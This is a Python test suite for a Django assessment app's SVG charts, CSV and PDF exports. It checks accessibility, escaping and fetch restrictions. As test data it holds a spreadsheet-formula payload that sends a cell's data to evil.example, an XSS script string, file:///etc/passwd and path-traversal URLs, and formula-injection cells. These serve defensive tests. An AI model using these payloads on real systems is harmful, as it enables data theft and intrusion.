"""Charts, the continuum include, CSV and PDF exports, from hand-made results: no database."""

import csv
import io
import urllib.request
import xml.etree.ElementTree as ET
from datetime import UTC, date, datetime
from pathlib import Path
from types import SimpleNamespace

import pytest
from django.conf import settings
from django.template.loader import render_to_string

from hub.assessment import charts, exports, scoring
from hub.assessment.models import ContextEvent, Initiative, Instrument, Round
from hub.assessment.selectors import (
    PERSPECTIVES,
    Evidence,
    HistoryPoint,
    InitiativeReport,
    ProgrammeReport,
    ProgrammeRow,
)
from hub.members.models import Organisation

SVG = "{http://www.w3.org/2000/svg}"
INSTRUMENT = {"dimensions": [
    {"key": "governance", "name": "Governance and consent", "weight": 2, "defining": True,
     "indicators": [{"key": "g1"}, {"key": "g2"}]},
    {"key": "trust", "name": "Trust", "indicators": [{"key": "t1"}]},
    {"key": "risk", "name": "Risk", "indicators": [{"key": "r1"}]},
]}
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def answers(n, values: dict[str, int], dont_know: dict[str, int] | None = None) -> dict:
    """A perspective's tally where each of ``n`` respondents gave the same answers."""
    items = {key: [value * n, n, 0] for key, value in values.items()}
    for key, count in (dont_know or {}).items():
        items.setdefault(key, [0, 0, 0])[2] += count
    return {"n": n, "items": items}


def a_result(**options) -> scoring.RoundResult:
    """Police lean focussed, community members targeted (they disagree on governance and
    trust); a young person and a researcher are pooled; nobody knows about risk but police."""
    return scoring.score_round({
        "police": answers(4, {"g1": 5, "g2": 4, "t1": 4, "r1": 3}),
        "community_member": answers(5, {"g1": 1, "g2": 2, "t1": 2}, {"r1": 5}),
        "young_person": answers(2, {"g1": 3, "g2": 3, "t1": 3}),
        "researcher": answers(1, {"g1": 4, "g2": 4, "t1": 4}),
    }, INSTRUMENT, labels=PERSPECTIVES, **options)


def a_round(title="Spring round", closes=datetime(2024, 4, 30, 12, tzinfo=UTC)) -> Round:
    return Round(title=title, instrument=Instrument(version=3, title="Questions"),
                 opens_at=datetime(2024, 3, 1, tzinfo=UTC), closes_at=closes)


def an_initiative(name="Safer Streets") -> Initiative:
    return Initiative(name=name, area="Eastham", country="GB",
                      lead_organisation=Organisation(name="Eastham Police"))


def a_report(name="Safer Streets") -> InitiativeReport:
    first = HistoryPoint(a_round("Autumn round", datetime(2023, 11, 30, tzinfo=UTC)),
                         scoring.score_round({"police": answers(3, {"g1": 2, "g2": 2})},
                                             INSTRUMENT, labels=PERSPECTIVES))
    second = HistoryPoint(a_round(), a_result())
    events = [ContextEvent(happened_on=date(2023, 6, 1), kind="policy", title="New duty"),
              ContextEvent(happened_on=date(2024, 2, 1), kind="crisis_local",
                           title="<script>alert(1)</script>")]
    evidence = [Evidence("governance", "g1", "Did communities agree?", "Police officer",
                         'We met <a href="http://127.0.0.1/">residents</a> twice.', None),
                Evidence("trust", "t1", "Do people trust it?", scoring.POOLED_LABEL, "",
                         SimpleNamespace(title="Trust survey 2023"))]
    return InitiativeReport(an_initiative(name), second.round, second.result, [first, second],
                            events, evidence)


def parse(svg: str) -> ET.Element:
    return ET.fromstring(svg)


def ids(root: ET.Element) -> set[str]:
    return {element.get("id") for element in root.iter() if element.get("id")}


def assert_accessible_image(svg: str, prefix: str) -> ET.Element:
    root = parse(svg)
    assert root.tag == f"{SVG}svg"
    assert root.get("role") == "img"
    assert root.get("aria-labelledby") == f"{prefix}-title {prefix}-desc"
    assert root.get("width") == "100%"
    title, desc = root.find(f"{SVG}title"), root.find(f"{SVG}desc")
    assert title.get("id") == f"{prefix}-title" and title.text
    assert desc.get("id") == f"{prefix}-desc" and desc.text
    assert not svg.lstrip().startswith("<?xml") and "<!DOCTYPE" not in svg
    assert all(element.tag != f"{SVG}script" for element in root.iter())
    assert all(element.tag != f"{SVG}style" for element in root.iter())
    for element in root.iter():
        for name, value in element.attrib.items():
            assert not name.startswith("on"), name
            if name.endswith("href"):
                assert value.startswith(f"#{prefix}-"), value
            if "url(" in value:
                assert value.startswith(f"url(#{prefix}-"), value
    assert all(value.startswith(f"{prefix}-") for value in ids(root))
    return root


def test_dimension_chart_is_an_accessible_image():
    """The dot plot is well-formed inline SVG with a title and a description of its figures."""
    result = a_result()
    svg = charts.dimension_chart(result, id_prefix="dims")
    root = assert_accessible_image(svg, "dims")
    assert root.get("viewBox")
    desc = root.find(f"{SVG}desc").text
    assert f"Overall position {charts.whole(result.overall)}." in desc
    assert "Police officer 88, Community member 13" in desc


def test_dimension_chart_keeps_text_as_text_and_marks_disagreement():
    """Labels stay selectable text, and a dimension the groups disagree on says so."""
    root = parse(charts.dimension_chart(a_result(), id_prefix="d"))
    texts = " ".join(element.text or "" for element in root.iter(f"{SVG}text"))
    assert "Governance and consent (disagreed)" in texts
    assert "Community-" in texts and "All groups" in texts
    assert "groups disagree" in root.find(f"{SVG}desc").text


def test_dimension_chart_leaves_out_missing_scores():
    """A group with no score on a dimension (only "don't know") is described, not drawn."""
    desc = parse(charts.dimension_chart(a_result(), id_prefix="d")).find(f"{SVG}desc").text
    assert "Risk: all groups 50; Police officer 50, Community member no score" in desc


def test_charts_are_deterministic():
    """The same result gives the same markup, so pages and PDFs do not churn."""
    result = a_result()
    assert (charts.dimension_chart(result, id_prefix="x")
            == charts.dimension_chart(result, id_prefix="x"))


def test_charts_on_one_page_share_no_id():
    """Every chart's ids carry its prefix, so several charts and the continuum can share a page."""
    report = a_report()
    pieces = {
        "a": charts.dimension_chart(report.result, id_prefix="a"),
        "b": charts.dimension_chart(report.history[0].result, id_prefix="b"),
        "h": charts.history_chart(report.history, report.events, id_prefix="h"),
        "s": charts.spread_chart([("One", 20.0), ("Two", 70.0)], id_prefix="s"),
        "c": render_to_string("assessment/_continuum.html",
                              {"result": report.result, "id_prefix": "c"}),
    }
    seen: set[str] = set()
    for prefix, svg in pieces.items():
        found = ids(assert_accessible_image(svg, prefix))
        assert not found & seen
        seen |= found


def test_history_chart_handles_one_round_and_events_outside_it():
    """One round is a single point; events before and after it are still drawn and numbered."""
    point = HistoryPoint(a_round(), a_result())
    events = [ContextEvent(happened_on=date(2020, 1, 5), kind="policy", title="Old law"),
              ContextEvent(happened_on=date(2026, 9, 1), kind="media", title="Coverage")]
    root = assert_accessible_image(charts.history_chart([point], events, id_prefix="h"), "h")
    texts = [element.text for element in root.iter(f"{SVG}text")]
    assert "1" in texts and "2" in texts
    desc = root.find(f"{SVG}desc").text
    assert "Round ending 30 April 2024: overall" in desc
    assert "Event 1, 5 January 2020: Old law (Change of policy or law)." in desc


def test_history_chart_escapes_event_titles():
    """An event title is user text: it reaches the description as text, never as markup."""
    report = a_report()
    svg = charts.history_chart(report.history, report.events, id_prefix="h")
    root = assert_accessible_image(svg, "h")
    assert "<script>" not in svg
    assert "<script>alert(1)</script>" in root.find(f"{SVG}desc").text


def test_history_chart_with_nothing_to_show():
    """No rounds and no events still gives an accessible image."""
    assert_accessible_image(charts.history_chart([], [], id_prefix="h"), "h")


def test_spread_chart_labels_a_few_initiatives():
    """Up to 25 initiatives each get a labelled marker, and long names are shortened."""
    rows = [(f"Initiative {n}", 4.0 * n) for n in range(24)] + [("x" * 60, 50.0), ("y", None)]
    root = assert_accessible_image(charts.spread_chart(rows, id_prefix="s"), "s")
    texts = {element.text for element in root.iter(f"{SVG}text")}
    assert {f"Initiative {n}" for n in range(24)} | {"x" * 39 + "…"} <= texts
    assert "25 initiatives" in root.find(f"{SVG}desc").text


def test_spread_chart_for_200_initiatives_is_a_box_plot():
    """200 initiatives give a box plot without labels (its speed is measured by
    bench/assessment_report.py, not here)."""
    rows = [(f"Initiative {n}", (n * 37) % 101) for n in range(200)]
    svg = charts.spread_chart(rows, id_prefix="s")
    root = assert_accessible_image(svg, "s")
    assert not any((element.text or "").startswith("Initiative")
                   for element in root.iter(f"{SVG}text"))
    assert "200 initiatives" in root.find(f"{SVG}desc").text


def test_spread_chart_with_no_positions():
    """A programme with nothing scored yet still gets an image that says so."""
    root = assert_accessible_image(charts.spread_chart([("A", None)], id_prefix="s"), "s")
    assert "No initiative" in root.find(f"{SVG}desc").text


def test_continuum_states_positions_in_words():
    """The include names the overall and each group's position, rounded, and labels each
    group on its own row so that close positions never overlap."""
    result = scoring.score_round({
        "police": answers(3, {"g1": 4, "g2": 4, "t1": 4, "r1": 4}),  # 75
        "community_member": answers(3, {"g1": 4, "g2": 4, "t1": 4, "r1": 5}),  # 81.25
    }, INSTRUMENT, labels=PERSPECTIVES)
    svg = render_to_string("assessment/_continuum.html", {"result": result, "id_prefix": "c1"})
    root = assert_accessible_image(svg, "c1")
    assert root.find(f"{SVG}desc").text == (
        "Overall 78 of 100; Police officer 75; Community member 81.")
    rows = [g.get("transform") for g in root.iter(f"{SVG}g") if g.get("transform")]
    assert rows == ["translate(0 0)", "translate(0 44)"]
    # 0–100 drawn from 5% to 95% of the width.
    assert [u.get("x") for u in root.iter(f"{SVG}use")] == ["75%", "73%", "78%"]


def test_continuum_without_results():
    """A round nobody has answered says there is no position yet."""
    result = scoring.score_round({}, INSTRUMENT, labels=PERSPECTIVES)
    svg = render_to_string("assessment/_continuum.html", {"result": result, "id_prefix": "c"})
    assert assert_accessible_image(svg, "c").find(f"{SVG}desc").text == "No overall position yet."


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+44 20", "'+44 20"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Safer Streets", "Safer Streets"), (None, ""), (3, "3"),
])
def test_safe_cell_defuses_formulas(value, expected):
    """A cell that a spreadsheet would run as a formula is kept as text."""
    assert exports.safe_cell(value) == expected


def read_csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_report_csv_has_a_row_per_round_group_and_dimension():
    """Each round gives each group's dimensions and position, then all groups together."""
    report = a_report(name=HOSTILE)
    rows = read_csv(exports.report_csv(report))
    # Autumn: police × (3 dimensions + overall) + all groups × 4. Spring: 3 groups × 4 + 4.
    assert len(rows) == 8 + 16
    assert {row["initiative"] for row in rows} == {"'" + HOSTILE}
    spring = [row for row in rows if row["round"] == "Spring round"]
    assert [row["group"] for row in spring[::4]] == [
        "Police officer", "Community member", scoring.POOLED_LABEL, "All groups"]
    risk = next(row for row in spring if row["group"] == "Community member"
                and row["dimension"] == "Risk")
    assert risk["score"] == "" and risk["dont_know"] == "5" and risk["answers"] == "0"
    governance = spring[0]
    assert governance == {
        "initiative": "'" + HOSTILE, "round": "Spring round", "round_closes": "2024-04-30",
        "instrument_version": "3", "group": "Police officer", "respondents": "4",
        "dimension": "Governance and consent", "score": "87.5", "answers": "8",
        "dont_know": "0", "spread": "75.0", "disagreed": "yes", "weight": "1"}
    overall = spring[-1]
    assert overall["dimension"] == "Overall position"
    assert overall["score"] == f"{report.result.overall:.1f}"
    assert overall["respondents"] == "12" and overall["weight"] == ""


def test_programme_and_compare_csv_have_a_row_per_initiative():
    """One row per initiative with its dimension scores; an unscored one has blanks."""
    result = a_result()
    rows = [ProgrammeRow(an_initiative("+Cmd"), a_round(), result),
            ProgrammeRow(an_initiative("Quiet"), None, None)]
    instrument = Instrument(version=3, title="Questions", data=INSTRUMENT)
    report = ProgrammeReport(None, rows, 0, scoring.spread_of([result.overall]), {}, {},
                             instrument)
    for text in (exports.programme_csv(report), exports.compare_csv(rows)):
        assert text.splitlines()[0] == (
            "initiative,area,lead_organisation,round,round_closes,respondents,overall,"
            "Governance and consent,Trust,Risk")
        first, second = read_csv(text)
        assert first["initiative"] == "'+Cmd"
        assert first["overall"] == f"{result.overall:.1f}"
        assert first["Risk"] == "50.0"
        assert second["round"] == second["overall"] == second["Trust"] == ""


def test_url_fetcher_refuses_everything_but_data_and_static_files():
    """The PDF renderer cannot be pointed at the network or at other files on the server."""
    fetcher = exports.StaticOnlyFetcher()
    static_dir = Path(settings.STATICFILES_DIRS[0])
    for url in ["http://127.0.0.1/", "https://example.org/hub.css", "file:///etc/passwd",
                "ftp://127.0.0.1/x", f"file://{static_dir}/../settings.py",
                f"file://evil.example{static_dir}/hub/hub.css", "//127.0.0.1/x"]:
        with pytest.raises(PermissionError):
            fetcher(url)
    response = fetcher((static_dir / "hub" / "hub.css").as_uri())
    assert b":root" in response.read()
    response.close()
    assert fetcher("data:text/plain,hello").read() == b"hello"


def test_report_pdf_template_escapes_user_text():
    """Names, notes and event titles appear as text; the page says it is not a verdict."""
    report = a_report(name="<b>Safer</b> Streets")
    html = render_to_string("assessment/report_pdf.html", {
        "report": report, "generated_at": datetime(2024, 5, 1, 9, tzinfo=UTC),
        "dimension_svg": charts.dimension_chart(report.result, id_prefix="pd"),
        "history_svg": charts.history_chart(report.history, report.events, id_prefix="ph"),
        "weights_note": ""})
    assert "&lt;b&gt;Safer&lt;/b&gt; Streets" in html and "<b>Safer" not in html
    assert "<script>" not in html and 'href="http://127.0.0.1/"' not in html
    assert "a guide for discussion, not a verdict" in html
    assert "Trust survey 2023" in html
    assert "fewer than 3 respondents" in html and "No respondent was left out." in html


def test_html_to_pdf_makes_a_pdf_without_fetching(monkeypatch):
    """A report renders to PDF; a hostile image link in it is refused, never fetched."""
    opened = []
    real_open = urllib.request.OpenerDirector.open

    def spy(self, url, *args, **kwargs):
        opened.append(getattr(url, "full_url", url))
        return real_open(self, url, *args, **kwargs)

    monkeypatch.setattr(urllib.request.OpenerDirector, "open", spy)
    report = a_report()
    html = render_to_string("assessment/report_pdf.html", {
        "report": report, "generated_at": datetime(2024, 5, 1, 9, tzinfo=UTC),
        "dimension_svg": charts.dimension_chart(report.result, id_prefix="pd"),
        "history_svg": "", "weights_note": "Police officers count twice."})
    html = html.replace("</body>", '<img src="http://127.0.0.1:9/x.png" alt="">'
                                    '<img src="file:///etc/passwd" alt=""></body>')
    pdf = exports.html_to_pdf(html, base_url="http://127.0.0.1:9/")
    assert pdf.startswith(b"%PDF")
    assert all(url.startswith("data:") for url in opened)
